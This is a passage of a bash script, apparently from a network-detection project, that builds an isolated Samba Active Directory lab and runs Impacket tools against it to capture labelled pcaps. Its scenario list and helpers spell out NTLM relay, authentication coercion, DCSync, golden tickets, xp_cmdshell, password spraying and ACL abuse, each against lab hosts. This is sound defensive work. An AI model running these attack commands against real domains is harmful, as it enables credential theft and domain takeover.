#!/usr/bin/env bash
# sensor-lab.sh - the project's attack lab: Impacket 0.10 (Debian) and current Impacket (source,
# pinned commit) against a Samba AD DC, every frame captured on the lab bridge.
#
# It builds on the shared lab script lab.sh (network namespaces labdc/labatk/labvic/labsw, the
# Samba provision, capture and helpers): it loads lab.sh's functions (everything before lab.sh's
# command dispatch) and adds
#   - current Impacket from source at IMPACKET_COMMIT, run by Debian's python3 with Debian's
#     packages for its dependencies (PYTHONPATH, no pip),
#   - lab services: an HTTP server with NTLM authentication on the DC (Apache 2.4 +
#     mod_auth_gssapi + gss-ntlmssp, /certsrv/), a minimal MS-TDS responder (tools/tds_responder.py),
#     a second domain controller (namespace labdc2) that joins the domain,
#   - scenarios, each run once per Impacket version where the tool exists in both; one pcap per
#     run, and one MANIFEST.tsv row per pcap (scenario, expected attack types, tool, version,
#     command lines).
#
# Usage:  sensor-lab.sh setup | list | run <scenario>... | run-all | manifest | teardown [--purge]
#   setup     lab.sh setup + extra Debian packages + Impacket source + lab services
#   run X..   run scenario X for every version it lists (X.i010 / X.i014 selects one)
#   run-all   every scenario
#   manifest  print the MANIFEST.tsv of ISL_OUT
#   teardown  stop the lab services, then lab.sh teardown
#
# Environment (defaults in brackets):
#   LAB_SH           [../shared/lab/lab.sh next to the repository] the shared lab script
#   IMPACKET_SRC     [clone of IMPACKET_URL]  a git directory (bare or checkout) holding IMPACKET_COMMIT
#   IMPACKET_URL     [https://github.com/fortra/impacket]
#   ISL_OUT          [$LAB_STATE/../isl/pcaps]    pcaps + MANIFEST.tsv
#   ISL_RESULTS      [$LAB_STATE/../isl/results]  one log per run (tool output, exit codes)
#   ISL_ANALYZE      [0]                      1 = also write lab.sh's tshark summaries per pcap
#   LAB_STATE, LAB_NET, LAB_TOOL_TIMEOUT, ... as documented in lab.sh
set -Eeuo pipefail
export LC_ALL=C.UTF-8

ISL_DIR=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
ISL_REPO=$(cd "$ISL_DIR/.." && pwd)

isl_die() { printf '[sensor-lab] %s\n' "$*" >&2; exit 2; }

locate_lab_sh() {
  if [ -n "${LAB_SH:-}" ]; then
    [ -f "$LAB_SH" ] || isl_die "LAB_SH=$LAB_SH: no such file"
    echo "$LAB_SH"; return
  fi
  local c
  # the repository is usually checked out next to the project's shared folder (main/, shared/),
  # a worktree one level deeper (wt/NAME/)
  for c in "$ISL_REPO/../shared/lab/lab.sh" "$ISL_REPO/../../shared/lab/lab.sh"; do
    if [ -f "$c" ]; then (cd "$(dirname "$c")" && echo "$PWD/lab.sh"); return; fi
  done
  isl_die "cannot find the shared lab script lab.sh: set LAB_SH=/path/to/lab.sh"
}
LAB_SH=$(locate_lab_sh)
LAB_DIR=$(dirname "$LAB_SH")
# lab.sh ends with its command dispatch ('case "${1:-}" in'): load only the functions above it.
grep -q '^case "\${1:-}" in' "$LAB_SH" || isl_die "$LAB_SH: no command dispatch found (not the lab script?)"
# shellcheck source=/dev/null
source <(sed '/^case "\${1:-}" in/,$d' "$LAB_SH")
trap 'rc=$?; echo "[sensor-lab] ERROR: line $LINENO: \"$BASH_COMMAND\" exited $rc" >&2' ERR

IMPACKET_COMMIT=f133bb889e21f5359136d519cd6933a78ca44996
IMPACKET_URL=${IMPACKET_URL:-https://github.com/fortra/impacket}
IMPACKET_CUR_VERSION=0.14.0.dev0+g${IMPACKET_COMMIT:0:8}
CUR=$STATE/impacket-$IMPACKET_COMMIT
OUT=${ISL_OUT:-$(dirname "$STATE")/isl/pcaps}       # lab.sh's cap_start/analyze write to $OUT/$RES
RES=${ISL_RESULTS:-$(dirname "$STATE")/isl/results}
TOOLS=$ISL_DIR/tools
NS_DC2=labdc2 DC2_IP=$NET.4 DC2HOST=dc2 DC2FQDN=dc2.lab.test
APACHE=$STATE/apache

ISL_PKGS=(python3-pyasn1 python3-pyasn1-modules python3-pycryptodome python3-ldap3 python3-flask
          python3-openssl python3-six python3-charset-normalizer python3-ldapdomaindump python3-dnspython
          python3-cryptography python3-requests-ntlm python3-winrm apache2 libapache2-mod-auth-gssapi gss-ntlmssp curl git
          freerdp2-shadow-x11 freerdp2-x11 winpr-utils xvfb)

# ---------------------------------------------------------------- Impacket versions
impacket_source() {
  if [ -f "$CUR/impacket/__init__.py" ] && [ -f "$CUR/.isl-commit" ] && [ "$(cat "$CUR/.isl-commit")" = "$IMPACKET_COMMIT" ]; then
    return 0
  fi
  local src=${IMPACKET_SRC:-}
  if [ -z "$src" ]; then
    src=$STATE/impacket.git
    if [ ! -d "$src" ]; then
      log "cloning $IMPACKET_URL"
      git clone -q --bare "$IMPACKET_URL" "$src" || die "git clone $IMPACKET_URL failed (set IMPACKET_SRC to a local copy)"
    fi
  fi
  git -C "$src" cat-file -e "$IMPACKET_COMMIT^{commit}" 2>/dev/null \
    || die "IMPACKET_SRC=$src does not hold commit $IMPACKET_COMMIT"
  log "extracting Impacket $IMPACKET_COMMIT into $CUR"
  rm -rf "$CUR"; mkdir -p "$CUR"
  git -C "$src" archive "$IMPACKET_COMMIT" | tar -x -C "$CUR"
  # impacket/version.py asks importlib.metadata for the version of 'impacket': without metadata
  # next to the source it would report Debian's installed 0.10.0. This is what 'setup.py
  # egg_info' would write, with the commit as the local version.
  mkdir -p "$CUR/impacket-$IMPACKET_CUR_VERSION.dist-info"
  printf 'Metadata-Version: 2.1\nName: impacket\nVersion: %s\n' "$IMPACKET_CUR_VERSION" \
    > "$CUR/impacket-$IMPACKET_CUR_VERSION.dist-info/METADATA"
  echo "$IMPACKET_COMMIT" > "$CUR/.isl-commit"
}

# imp TOOL: the command words that run example TOOL of the version in $IVER (010 | 014).
imp() {
  local t=$1
  case "$IVER" in
    010)
      local pp=$STATE/relaystub
      [ "${COMPAT:-0}" = 1 ] && pp=$STATE/shim:$pp
      echo "env PYTHONPATH=$pp LAB_TGS_CKSUM_SHIM=${COMPAT:-0} /usr/bin/python3 $IMPK_EX/$t.py" ;;
    014)
      local pp=$CUR
      [ "${COMPAT:-0}" = 1 ] && pp=$CUR:$STATE/shim
      [ -f "$CUR/examples/$t.py" ] || { echo "false no-such-example-$t"; return; }
      echo "env PYTHONPATH=$pp LAB_TGS_CKSUM_SHIM=${COMPAT:-0} /usr/bin/python3 $CUR/examples/$t.py" ;;
    *) die "imp: IVER not set" ;;
  esac
}
# implib: python with the version's Impacket library on the path (for the lab's own tools)
implib() {
  case "$IVER" in
    010) echo "env PYTHONPATH=$STATE/relaystub /usr/bin/python3" ;;
    014) echo "env PYTHONPATH=$CUR /usr/bin/python3" ;;
  esac
}
has_example() {  # has_example VER TOOL
  case "$1" in
    010) [ -f "$IMPK_EX/$2.py" ] ;;
    014) [ -f "$CUR/examples/$2.py" ] ;;
  esac
}
ver_label() {
  case "$1" in
    010) echo "impacket $(dpkg-query -W -f='${Version}' python3-impacket 2>/dev/null) (Debian python3-impacket)" ;;
    014) echo "impacket $IMPACKET_CUR_VERSION (fortra/impacket $IMPACKET_COMMIT)" ;;
    -)   echo "no impacket" ;;
  esac
}

# ---------------------------------------------------------------- lab services
isl_packages() {
  [ "${LAB_SKIP_APT:-0}" = 1 ] && return 0
  local missing=() p
  for p in "${ISL_PKGS[@]}"; do
    dpkg-query -W -f='${Status}' "$p" 2>/dev/null | grep -q 'install ok installed' || missing+=("$p")
  done
  [ ${#missing[@]} -eq 0 ] && return 0
  local added_policy=0
  if [ ! -e /usr/sbin/policy-rc.d ]; then   # keep apache2 from starting on the host
    printf '#!/bin/sh\nexit 101\n' > /usr/sbin/policy-rc.d; chmod 755 /usr/sbin/policy-rc.d; added_policy=1
  fi
  log "installing: ${missing[*]}"
  apt-get update -q
  DEBIAN_FRONTEND=noninteractive apt-get install -y -q --no-install-recommends "${missing[@]}" \
    || { [ $added_policy = 1 ] && rm -f /usr/sbin/policy-rc.d; die "apt-get install failed"; }
  [ $added_policy = 1 ] && rm -f /usr/sbin/policy-rc.d
  if [ -d /run/systemd/system ]; then systemctl disable --now apache2 >/dev/null 2>&1 || true; fi
}

# An HTTP service with NTLM authentication on the DC, shaped like AD CS web enrolment
# (http://dc1/certsrv/): Apache 2.4 + mod_auth_gssapi with the NTLMSSP mechanism of gss-ntlmssp.
# gss-ntlmssp checks the NTLMv2 responses against a lab user file (NTLM_USER_FILE), the accounts
# of the domain with their lab passwords. The authentication is bound to the TCP connection
# (GssapiConnectionBound), as IIS does for NTLM.
apache_conf() {
  mkdir -p "$APACHE"/{run,log,htdocs/certsrv,lock}
  printf 'Microsoft Active Directory Certificate Services - LAB-CA\n' > "$APACHE/htdocs/certsrv/index.html"
  printf 'certificate request received\n' > "$APACHE/htdocs/certsrv/certfnsh.asp"
  printf 'intranet\n' > "$APACHE/htdocs/index.html"
  : > "$APACHE/htdocs/wsman"
  # DOMAIN:USER:PASSWORD per line (gss-ntlmssp's user file)
  printf '%s:%s:%s\n' "$DOMAIN" da_carol "$CAROL_PW" "$DOMAIN" alice "$ALICE_PW" "$DOMAIN" Administrator "$ADMIN_PW" \
    > "$APACHE/ntlm-users"
  chown -R www-data:www-data "$APACHE"
  chmod 600 "$APACHE/ntlm-users"
  local M=/usr/lib/apache2/modules
  cat > "$APACHE/httpd.conf" <<EOF
ServerName $DCFQDN
ServerRoot $APACHE
Listen $DC_IP:80
Listen $DC_IP:5985
PidFile $APACHE/run/httpd.pid
DefaultRuntimeDir $APACHE/run
Mutex file:$APACHE/lock default
ErrorLog $APACHE/log/error.log
LogLevel info
LoadModule mpm_prefork_module $M/mod_mpm_prefork.so
LoadModule authn_core_module $M/mod_authn_core.so
LoadModule authz_core_module $M/mod_authz_core.so
LoadModule authz_user_module $M/mod_authz_user.so
LoadModule auth_gssapi_module $M/mod_auth_gssapi.so
LoadModule mime_module $M/mod_mime.so
LoadModule dir_module $M/mod_dir.so
User www-data
Group www-data
StartServers 2
KeepAlive On
KeepAliveTimeout 120
TypesConfig /etc/mime.types
DocumentRoot $APACHE/htdocs
DirectoryIndex index.html
<Directory $APACHE/htdocs>
  Require all granted
</Directory>
<Location /certsrv/>
  AuthType GSSAPI
  AuthName "LAB-CA"
  GssapiAllowedMech ntlmssp
  GssapiConnectionBound On
  Require valid-user
</Location>
# WinRM's endpoint (MS-WSMV over HTTP on 5985) as a stand-in: NTLM is checked, then every POST
# gets the empty file's 200 (there is no WS-Management behind it).
<Location /wsman>
  AuthType GSSAPI
  AuthName "WSMAN"
  GssapiAllowedMech ntlmssp
  GssapiConnectionBound On
  Require valid-user
</Location>
EOF
}
apache_pid() {
  local f=$APACHE/run/httpd.pid pid
  [ -f "$f" ] || return 1
  pid=$(tr -dc 0-9 < "$f"); [ -n "$pid" ] && kill -0 "$pid" 2>/dev/null || return 1
  ip netns identify "$pid" 2>/dev/null | grep -qx $NS_DC || return 1
  echo "$pid"
}
apache_start() {
  if apache_pid >/dev/null; then
    # a service started before /wsman existed is restarted with the current configuration
    indc ss -Hltn | grep -q "$DC_IP:5985 " && return 0
    apache_stop
  fi
  apache_conf
  indc env NTLM_USER_FILE="$APACHE/ntlm-users" apache2 -f "$APACHE/httpd.conf" -k start
  local i; for i in $(seq 1 40); do indc ss -Hltn | grep -q "$DC_IP:80 " && break; sleep 0.25; done
  indc ss -Hltn | grep -q "$DC_IP:80 " || die "apache did not listen on $DC_IP:80 (see $APACHE/log/error.log)"
  log "HTTP NTLM service up: http://$DC_IP/certsrv/ (pid $(apache_pid))"
}
apache_stop() {
  local pid; pid=$(apache_pid) || return 0
  kill -TERM "$pid" 2>/dev/null || true
  local i; for i in $(seq 1 20); do kill -0 "$pid" 2>/dev/null || break; sleep 0.25; done
}

# the MS-TDS responder on ws01 (10.99.0.3:1433): started per scenario, ended by its PID
TDS_PID=
tds_start() {  # tds_start [responder options...]
  load_secrets
  ip netns exec $NS_VIC /usr/bin/python3 "$TOOLS/tds_responder.py" --listen "$VIC_IP" --port 1433 --name SQL01 \
     --domain "$DOMAIN" --dns-domain "$DNSDOM" --user "$DOMAIN/da_carol:$CAROL_PW" --user "$DOMAIN/alice:$ALICE_PW" \
     --user "$DOMAIN/Administrator:$ADMIN_PW" --user-hash "$DOMAIN/DC1\$:$DC_NT" --xp-cmdshell-off "$@" > "$PWD/tds_responder.log" 2>&1 &
  TDS_PID=$!
  local i; for i in $(seq 1 40); do ip netns exec $NS_VIC ss -Hltn | grep -q "$VIC_IP:1433 " && break; sleep 0.25; done
}
tds_stop() {
  [ -n "$TDS_PID" ] || return 0
  kill -TERM "$TDS_PID" 2>/dev/null || true; wait "$TDS_PID" 2>/dev/null || true; TDS_PID=
  echo "---- tds_responder.log"; cat "$PWD/tds_responder.log"
}

# ---------------------------------------------------------------- helpers
ak() { ip netns exec $NS_ATK timeout -k 5 "$TOOL_TO" "$@" < /dev/null; }   # attacker, no stdin

# ntlmrelayx in the background with a stdin that stays open (it exits at EOF of stdin).
# relay_start LISTENER(smb|http) TARGET [args...]; relay_stop waits for a verdict line first.
RELAY_PID= RELAY_HOLD= RELAY_LOG=
relay_start() {
  local listener=$1 target=$2; shift 2
  local off=(--no-wcf-server --no-raw-server)
  [ "$IVER" = 014 ] && off+=(--no-rpc-server --no-winrm-server --no-mssql-server --no-rdp-server)
  if [ "$listener" = http ]; then off+=(--no-smb-server); else off+=(--no-http-server); fi
  RELAY_LOG=$PWD/ntlmrelayx.log
  local impw cmd
  read -ra impw <<< "$(imp ntlmrelayx)"
  cmd=("${impw[@]}" -t "$target" -smb2support "${off[@]}" -ip "$ATK_IP" -l "$PWD/loot" "$@")
  printf '+ [ntlmrelayx] (background) ak'; printf ' %q' "${cmd[@]}"; echo
  local fifo=$PWD/relay.stdin
  rm -f "$fifo"; mkfifo "$fifo"; exec {RELAY_HOLD}<>"$fifo"
  ip netns exec $NS_ATK timeout -k 5 "$TOOL_TO" "${cmd[@]}" <&$RELAY_HOLD > "$RELAY_LOG" 2>&1 &
  RELAY_PID=$!
  local port=445; [ "$listener" = http ] && port=80
  local i; for i in $(seq 1 80); do ip netns exec $NS_ATK ss -Hltn | grep -q "$ATK_IP:$port " && break; sleep 0.25; done
}
relay_wait() {  # relay_wait ERE SECONDS: until ntlmrelayx printed a line matching ERE
  local i
  for i in $(seq 1 $(( $2 * 2 ))); do grep -qE "$1" "$RELAY_LOG" && return 0; sleep 0.5; done
  return 0
}
relay_stop() {
  local i
  for i in $(seq 1 30); do
    grep -qiE 'SUCCEED|FAILED|Dumping|Signing is required|Executed|Traceback|Done dumping|ERROR' "$RELAY_LOG" && break; sleep 0.5
  done
  sleep "${1:-5}"
  kill -TERM "$RELAY_PID" 2>/dev/null || true
  wait "$RELAY_PID" 2>/dev/null || true
  exec {RELAY_HOLD}>&-; rm -f "$PWD/relay.stdin"
  echo "---- ntlmrelayx output"; cat "$RELAY_LOG"
}
# the relay victim: da_carol on ws01
victim_curl() {  # victim_curl URL
  X victim-curl vic curl -sS --ntlm -u "$DOMAIN\\da_carol:$CAROL_PW" -o /dev/null -w 'HTTP %{http_code}\n' "$1" || true
}
victim_smb() {
  X victim-smbclient vic smbclient -s "$CLIENTCONF" --use-kerberos=off -U "$DOMAIN\\da_carol%$CAROL_PW" \
    "//$ATK_IP/share" -c 'ls' || true
}

# ---------------------------------------------------------------- scenarios
# name|kind|versions|expected_attack_types|what it shows
ISL_SCENARIOS=(
  "atk_relay_http_to_smb|attack|010 014|ntlm_relay|ntlmrelayx HTTP listener; victim da_carol@ws01 curl --ntlm; relayed to SMB on dc1"
  "atk_relay_http_to_ldap|attack|010 014|ntlm_relay|ntlmrelayx HTTP listener; victim da_carol@ws01 curl --ntlm; relayed to LDAP on dc1, --escalate-user alice (DCSync ACE on the domain object)"
  "atk_relay_smb_to_http|attack|010 014|ntlm_relay|ntlmrelayx SMB listener; victim da_carol@ws01 smbclient; relayed to the NTLM web service http://dc1/certsrv/ (Apache mod_auth_gssapi + gss-ntlmssp), --adcs certificate request post"
  "atk_relay_smb_to_mssql|attack|010 014|ntlm_relay&mssql_abuse|ntlmrelayx SMB listener; victim da_carol@ws01 smbclient; relayed to mssql://ws01:1433 (lab TDS responder), -q queries"
  "atk_coerce|attack|010 014|coercion|MS-EFSR EfsRpcOpenFileRaw/EfsRpcEncryptFileSrv over \\pipe\\lsarpc, EfsRpcOpenFileRaw over \\pipe\\efsrpc, MS-RPRN RpcRemoteFindFirstPrinterChangeNotificationEx, MS-DFSNM NetrDfsRemoveStdRoot with UNC paths naming the attacker (alice); then DC1\$ authenticates over SMB to the attacker's smbserver.py"
  "atk_coerce_relay|attack|010 014|coercion&ntlm_relay|ntlmrelayx SMB listener relaying to mssql://ws01 (lab TDS responder, DC1\$ a login there); coercion (EfsRpcOpenFileRaw over \\pipe\\lsarpc, RpcRemoteFindFirstPrinterChangeNotificationEx) naming the attacker (alice); DC1\$ authenticates to the attacker and is relayed to MSSQL"
  "atk_mssqlclient|attack|010 014|mssql_abuse&coercion|mssqlclient.py -windows-auth da_carol to the lab TDS responder on ws01: NTLM in LOGIN7 SSPI, batches select @@version, enable_xp_cmdshell (sp_configure 'xp_cmdshell' 1), xp_cmdshell whoami, xp_dirtree / xp_fileexist / xp_subdirs on UNC paths naming the attacker (\\\\10.99.0.2\\share)"
  "atk_mssqlclient_badpw|attack|010 014|optional|mssqlclient.py -windows-auth with a wrong password for da_carol to the lab TDS responder: NTLM in LOGIN7 SSPI answered with ERROR 18456 (Login failed), the session ends"
  "atk_dacledit|attack|014|acl_abuse|dacledit.py -action write -rights DCSync -principal alice on DC=lab,DC=test, then -action read (Administrator, LDAP NTLM)"
  "atk_owneredit|attack|014|acl_abuse|owneredit.py -action write -new-owner alice -target bob, then -action read (Administrator, LDAP NTLM)"
  "atk_rbcd|attack|010 014|rbcd_abuse|rbcd.py -delegate-from EVILPC\$ -delegate-to DC1\$ -action write then read (Administrator)"
  "atk_changepasswd|attack|014|password_change|changepasswd.py bob: -protocol smb-samr, rpc-samr, kpasswd, ldap; -reset by Administrator (SAMR)"
  "atk_smbpasswd|attack|010|password_change|smbpasswd.py (0.10's changepasswd): bob's password changed over SAMR SamrUnicodeChangePasswordUser2"
  "atk_net|attack|014|account_manipulation|net.py user -create evilusr; group -name 'Domain Admins' -join evilusr; localgroup -name Administrators; user -remove evilusr (Administrator, SAMR/LSAT)"
  "atk_getST_variants|attack|014|s4u_delegation_abuse|getST.py as svc_web: -self -impersonate Administrator; -altservice cifs/dc1 with S4U2proxy; -u2u as alice (compat shim); 0.10's getST has none of these options"
  "atk_getPac|attack|010 014|s4u_delegation_abuse|getPac.py -targetUser Administrator as alice: S4U2self + U2U to read a PAC (compat shim)"
  "atk_services_verbs|attack|010 014|service_manipulation|services.py list, status, config, start, stop, change -name Netlogon (Administrator): svcctl"
  "atk_reg_save|attack|010 014|remote_registry|reg.py query HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa, save HKLM\\SAM and HKLM\\SYSTEM to \\\\10.99.0.2\\share, backup (Administrator)"
  "atk_regsecrets|attack|014|secretsdump|regsecrets.py (Administrator): remote registry reads of SAM/LSA secrets without saving hives"
  "atk_wmiquery|attack|010 014|impacket_fingerprint|wmiquery.py -namespace //./root/cimv2 (Administrator): DCOM activation of WMI (Samba has no DCOM: stops at activation)"
  "atk_wmipersist|attack|010 014|impacket_fingerprint|wmipersist.py install -name evil -vbs (Administrator): DCOM activation of WMI (Samba has no DCOM)"
  "atk_rpcmap|attack|010 014|optional|rpcmap.py ncacn_ip_tcp:10.99.0.1[135] and ncacn_np:10.99.0.1[\\pipe\\lsarpc] -brute-uuids (alice)"
  "atk_getArch|attack|010 014|optional|getArch.py -target 10.99.0.1: the NDR64 bind probe on 135"
  "atk_machine_role|attack|010 014|optional|machine_role.py (alice): DsRoleGetPrimaryDomainInformation over \\pipe\\lsarpc"
  "atk_netview|attack|010 014|optional|netview.py -target 10.99.0.1 (alice): NetrServerGetInfo/NetrShareEnum/NetrSessionEnum/NetrWkstaUserEnum sweep"
  "atk_DumpNTLMInfo|attack|014|optional|DumpNTLMInfo.py 10.99.0.1: SMB NEGOTIATE + NTLM NEGOTIATE only, no authentication"
  "atk_lookupsid|attack|014|sid_enumeration|lookupsid.py 1500 (alice): LsarLookupSids RID brute force"
  "atk_samrdump|attack|014|samr_enumeration|samrdump.py (alice): SAMR user enumeration"
  "atk_GetLAPSPassword|attack|014|optional|GetLAPSPassword.py (Administrator, LDAP NTLM): ms-Mcs-AdmPwd / msLAPS-* reads"
  "atk_findDelegation|attack|014|ldap_recon|findDelegation.py (alice, LDAP NTLM)"
  "atk_GetADUsers|attack|014|ldap_recon|GetADUsers.py -all (alice, LDAP NTLM)"
  "atk_GetADComputers|attack|014|ldap_recon|GetADComputers.py (alice, LDAP NTLM)"
  "atk_CheckLDAPStatus|attack|014|optional|CheckLDAPStatus.py -domain lab.test (no credentials): LDAP signing / LDAPS channel-binding probes"
  "atk_gpp_password|attack|014|gpp_password|Get-GPPPassword.py (alice): SYSVOL walk reading Groups.xml with a cpassword"
  "atk_dpapi_backupkeys|attack|010 014|dpapi_backupkey|dpapi.py backupkeys --export (Administrator): LSARPC LsarRetrievePrivateData G\$BCKUPKEY_* / MS-BKRP"
  "atk_smbclient_ops|attack|010 014|impacket_fingerprint|smbclient.py (Administrator password): shares, use C\$, put, get, rm, use SYSVOL, ls"
  "atk_attrib|attack|014|optional|attrib.py query/set on C\$ (Administrator): SMB2 QUERY_INFO/SET_INFO basic information"
  "atk_tstool|attack|014|optional|tstool.py qwinsta and tasklist (Administrator): TermSrv RPC (Samba has no TermSrv pipes)"
  "atk_badsuccessor|attack|014|optional|badsuccessor.py -action add -target-account Administrator (alice, LDAP NTLM): dMSA creation (Samba 4.17 has no dMSA schema)"
  "atk_keylistattack|attack|010 014|optional|keylistattack.py -rodcNo 20000 -rodcKey <the krbtgt AES key standing in for an RODC key>: SAMR user listing, then LIST mode for Administrator, alice, bob: forged RODC TGTs in TGS-REQs with KERB-KEY-LIST-REQ (no RODC in the lab)"
  "atk_raiseChild|attack|010 014|optional|raiseChild.py (Administrator): child-to-parent escalation attempt (the lab has no parent domain)"
  "atk_goldenPac|attack|010 014|optional|goldenPac.py (alice): MS14-068 TGS-REQ with a forged PAC (Samba is not vulnerable)"
  "atk_ticketer_variants|attack|010 014|golden_ticket|ticketer.py golden with -extra-sid S-1-5-21-...-519 then smbclient -k; 0.14 also -request -impersonate (sapphire-style) (compat shim)"
  "atk_secretsdump_modes|attack|010 014|dcsync|secretsdump.py -just-dc-ntlm, -just-dc-user krbtgt, -use-vss; 0.14 also -ldapfilter (Administrator)"
  "atk_dc2_join_dcsync|attack|010 014|dcsync|a second DC (dc2, 10.99.0.4, own namespace on br0) joins with samba-tool domain join lab.test DC and replicates for the first time (DRSUAPI from dc2: benign); in the same capture secretsdump.py -just-dc from the attacker (DCSync)"
  "ben_admin_setpassword|benign|-|none|an admin resets bob's password from ws01: samba-tool user setpassword over LDAP, net rpc password over SAMR"
  "ben_admin_sessions|benign|-|none|an admin on ws01 lists sessions, shares and server info with rpcclient (srvinfo, netsessenum, netshareenumall) and net rpc share / net rpc info"
  "ben_admin_rpcclient_users|benign|-|none|an admin on ws01 lists domain users and groups with Samba's rpcclient (SAMR enumdomusers, enumdomgroups, queryuser)"
  "ben_admin_dsacl|benign|-|none|an admin on ws01 reads the domain object's ACL with samba-tool dsacl get and queries users with samba-tool over LDAP"
  "atk_mssqlclient_tls|attack|010 014|mssql_abuse|mssqlclient.py -windows-auth da_carol to the lab TDS responder with login-only encryption (PRELOGIN ENCRYPT_OFF, the default of SQL Server): TLS handshake in PRELOGIN packets, LOGIN7 (NTLM NEGOTIATE) encrypted, the SSPI AUTHENTICATE and the batches select @@version, xp_cmdshell whoami in cleartext"
  "ben_winrm_ntlm|benign|-|none|Administrator on ws01 runs ipconfig over WinRM with NTLM (Debian's python3-winrm, transport ntlm) against http://dc1:5985/wsman; the lab's stand-in endpoint (Apache + gss-ntlmssp) checks the NTLMv2 response, then answers every POST with an empty 200 (no WS-Management behind it)"
  "ben_http_ntlm|benign|-|none|da_carol and alice on ws01 open http://dc1/certsrv/ with python3-requests-ntlm (plain HTTP NTLM logins to an intranet site, Apache mod_auth_gssapi + gss-ntlmssp)"
  "atk_spray|attack|010 014|password_spray|password spray over SMB: smbclient.py logs in with one wrong password (Winter2026!) to each of 26 domain accounts in turn (SMB2 SESSION_SETUP NTLM, STATUS_LOGON_FAILURE each)"
  "atk_spray_kerberos|attack|010 014|password_spray|password spray over Kerberos: getTGT.py with one wrong password (Winter2026!) for each of 26 domain accounts (AS-REQ, KDC_ERR_PREAUTH_REQUIRED, AS-REQ with PA-ENC-TIMESTAMP, KDC_ERR_PREAUTH_FAILED each)"
  "atk_rpcdump|attack|010 014|rpc_enumeration|rpcdump.py 10.99.0.1 (no credentials): ept_lookup of every entry (inquiry type rpc_c_ep_all_elts, max 500) on 135, repeated with the returned entry handle until the map is exhausted; then rpcdump.py -port 445 (alice): the same loop over \\pipe\\epmapper"
  "atk_smbserver|attack|010 014|impacket_fingerprint|smbserver.py -smb2support share on the attacker (10.99.0.2); ws01 connects as da_carol with Samba's smbclient and lists the share: Impacket as the SMB server (NEGOTIATE response, NTLM CHALLENGE)"
  "atk_karmaSMB|attack|010 014|impacket_fingerprint|karmaSMB.py -smb2support <file> on the attacker (10.99.0.2), which answers every file read with that file; ws01 connects as da_carol with Samba's smbclient and reads \\\\10.99.0.2\\share\\report.docx"
  "atk_sambaPipe|attack|010 014|samba_pipe_exploit|sambaPipe.py -so lab.so (Administrator): SRVSVC NetrShareEnum level 2, upload of the shared object to the first writable share, NT CREATE of its server path as a pipe (CVE-2017-7494; Samba 4.17 is not vulnerable)"
  "atk_filetime|attack|014|impacket_fingerprint|filetime.py (Administrator) stat, then touch -c -a -w -m -t 2015-01-01_00:00:00.000000 -v on C\$ Windows\\Temp\\loot.txt: SMB2 QUERY_INFO / SET_INFO FileBasicInformation (timestomping)"
  "ben_admin_epmlookup|benign|-|none|an admin on ws01 lists dc1's endpoint map with Samba's rpcclient (epmlookup: every-entry ept_lookup, one entry per call, over \\pipe\\epmapper)"
  "atk_checkMSSQLStatus|attack|014|impacket_fingerprint|checkMSSQLStatus.py -windows-auth da_carol against the lab TDS responder with login-only encryption: PRELOGIN, then two NTLM logins, the first with the real channel binding token, the second with an empty one (extended-protection probe)"
  "atk_mimikatz|attack|010 014|mimikatz_rpc|mimikatz.py (Administrator): ept_map for mimikatz's RPC interface 17fc11e9-c258-4b8d-8d07-2f4125156244 over \\pipe\\epmapper, then on 135 (no mimikatz RPC server in the lab: not registered)"
  "atk_rdp_check|attack|010 014|optional|rdp_check.py (alice) to dc1:3389, first with her password, then a wrong one: X.224 connection request with RDP_NEG_REQ (PROTOCOL_HYBRID + PROTOCOL_SSL), TLS, CredSSP TSRequests with NTLM NEGOTIATE/AUTHENTICATE inside TLS (lab RDP server: FreeRDP's shadow server, NLA against a SAM file); it stops after the CredSSP answer"
  "ben_rdp_xfreerdp|benign|-|none|alice on ws01 connects to dc1:3389 with Debian's FreeRDP client xfreerdp /sec:nla: once +auth-only, once an 8-second desktop session (lab RDP server: FreeRDP's shadow server, NLA against a SAM file)"
  "ben_rdp_xfreerdp_badpw|benign|-|none|alice on ws01 connects to dc1:3389 with xfreerdp /sec:nla +auth-only, first with a wrong password (refused in CredSSP), then with hers (lab RDP server: FreeRDP's shadow server, NLA against a SAM file)"
  "atk_kintercept|attack|010 014|s4u_delegation_abuse|kintercept.py on the attacker (10.99.0.2:88, request handler s4u2else:Administrator, reply handler tgs-rep-user:alice) between svc_web on ws01 (getST.py -spn cifs/dc1 -impersonate alice with the attacker as its KDC) and dc1:88: both legs; the S4U2self TGS-REQ reaches dc1 with PA-FOR-USER Administrator and an unkeyed CRC32 checksum (CVE-2018-16860 / CVE-2019-0734), Samba answers KDC_ERR_SUMTYPE_NOSUPP (kintercept.py ported to Python 3 by lab/tools/kintercept_py3.py)"
  "atk_mssqlinstance|attack|010 014|optional|mssqlinstance.py 10.99.0.3: SQL Server Browser request CLNT_UCAST_EX (one byte 0x03) to UDP 1434 of ws01, answered SVR_RESP with two instances (lab imitation of the SQL Browser: tools/sqlbrowser_responder.py)"
  "ben_sql_browser_tsql|benign|-|none|an admin on dc1 lists the SQL instances of ws01 with FreeTDS (tsql -L -H: CLNT_UCAST_EX), then connects to the named instance REPORTING (CLNT_UCAST_INST, then TCP to its port, where no server listens) (lab imitation of the SQL Browser: tools/sqlbrowser_responder.py)"
  "atk_netview_sweep|attack|010 014|rpc_enumeration|netview.py -targets (dc1 and four file servers ws01-ws04, standalone Samba) -delay 5 (alice), stopped after 40 s: TCP probes of 445, then per host SRVSVC NetrSessionEnum level 10 and WKSSVC NetrWkstaUserEnum level 1, repeated each round"
  "ben_admin_sessions_two|benign|-|none|an admin on ws01 lists sessions, shares and server info of two servers (dc1 and the file server ws02) with rpcclient (srvinfo, netsessenum, netshareenumall)"
  "atk_dpapidump|attack|014|impacket_fingerprint|dpapidump.py (Administrator): DCOM activation of WMI on 135 for its SCCM query (Samba has no DCOM: the bind is rejected), then SMB opens of the SYSTEM profile's Credentials folders on C\$ (absent: 'Nothing to decrypt', so it stops before the remote-registry step)"
)

isl_scen_field() { local s; for s in "${ISL_SCENARIOS[@]}"; do [ "${s%%|*}" = "$1" ] && { echo "$s" | cut -d'|' -f"$2"; return; }; done; }
isl_scen_names() { local s; for s in "${ISL_SCENARIOS[@]}"; do echo "${s%%|*}"; done; }

# --- #1 NTLM relay across carriers, coercion, MSSQL
sc_atk_relay_http_to_smb() {
  relay_start http "smb://$DC_IP"
  victim_curl "http://$ATK_IP/intranet/report.docx"
  relay_stop 8
}
sc_atk_relay_http_to_ldap() {
